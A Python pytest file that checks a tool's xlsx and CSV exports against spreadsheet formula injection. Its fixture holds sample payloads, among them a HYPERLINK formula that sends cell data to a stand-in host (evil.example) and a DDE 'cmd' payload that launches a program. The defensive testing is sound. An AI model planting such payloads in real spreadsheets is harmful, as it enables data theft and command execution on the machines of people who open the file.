"""Issue 21: exports safe to open in Excel. A label is never a formula in an xlsx
export (LibreOffice shows it as written), and a CSV cell that a spreadsheet would run
(= + - @, tab, CR) gets a leading ' (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bprkit import output

from .clirunner import run_cli
from .test_xlsx import _libreoffice_values

HOSTILE = """process p 「=1+1」 {
  owner 「=HYPERLINK("http://evil.example/?"&A1,"x")」
  volume 100 / year
  lane a 「@SUM(1)」 : back_office
  step s 「-2+3」 @a [紙, 転記] 5分
  step t 「+cmd|' /C calc'!A0」 @a [紙] 4分
}
"""
OURS = re.compile(r"=(SUM|SUMIF)\(|=[A-Z]+\d+\*[A-Z]+\d+\*[A-Z]+\d+/60$")
"""The workbook's own formulas: totals and the annual hours of a row."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("inj") / "inj.bpr"
    path.write_text(HOSTILE, encoding="utf-8")
    assert run_cli("check", str(path)).returncode == 0
    return path


def _formulas(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [str(c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


@pytest.mark.parametrize("command", ["export", "portfolio"])
def test_xlsx_labels_are_text_in_libreoffice(hostile: Path, tmp_path: Path,
                                             command: str) -> None:
    out = tmp_path / f"{command}.xlsx"
    r = run_cli(command, str(hostile), "-o", str(out), "--samples", "200", "--lang", "en")
    assert r.returncode == 0, r.stderr
    assert all(OURS.search(f) for f in _formulas(out)), _formulas(out)
    cells = {c for row in _libreoffice_values(out, tmp_path) for c in row}
    assert "=1+1" in cells and "2" not in cells
    if command == "export":  # the steps' sheet carries lanes and steps
        assert {"@SUM(1)", "-2+3", "+cmd|' /C calc'!A0"} <= cells
    else:  # the portfolio's first sheet carries the owner
        assert '=HYPERLINK("http://evil.example/?"&A1,"x")' in cells


@pytest.mark.parametrize("args", [("analyze", "--format", "csv"),
                                  ("portfolio", "--format", "csv"),
                                  ("estimate", "--format", "csv")])
def test_csv_cells_that_would_run_are_quoted(hostile: Path, args: tuple[str, ...]) -> None:
    r = run_cli(*args, str(hostile), "--lang", "en", *(
        ("--samples", "200") if args[0] != "analyze" else ()))
    assert r.returncode == 0, r.stderr
    cells = [c for row in csv.reader(io.StringIO(r.stdout.lstrip("\ufeff"))) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (
            cell.startswith("-") and not re.fullmatch(r"-[\d.,]+", cell)), cell
    assert any(c.startswith("'") for c in cells)


def test_csv_cell_by_hand() -> None:
    assert output.csv_cell("=1+1") == "'=1+1"
    assert output.csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert output.csv_cell("\t=1") == "'\t=1" and output.csv_cell("\rX") == "'\rX"
    assert output.csv_cell("-12.5") == "-12.5" and output.csv_cell("+3") == "+3"
    assert output.csv_cell("-2+3") == "'-2+3" and output.csv_cell("申請") == "申請"
    assert output.csv_cell(-4.0) == -4.0 and output.csv_cell(None) is None
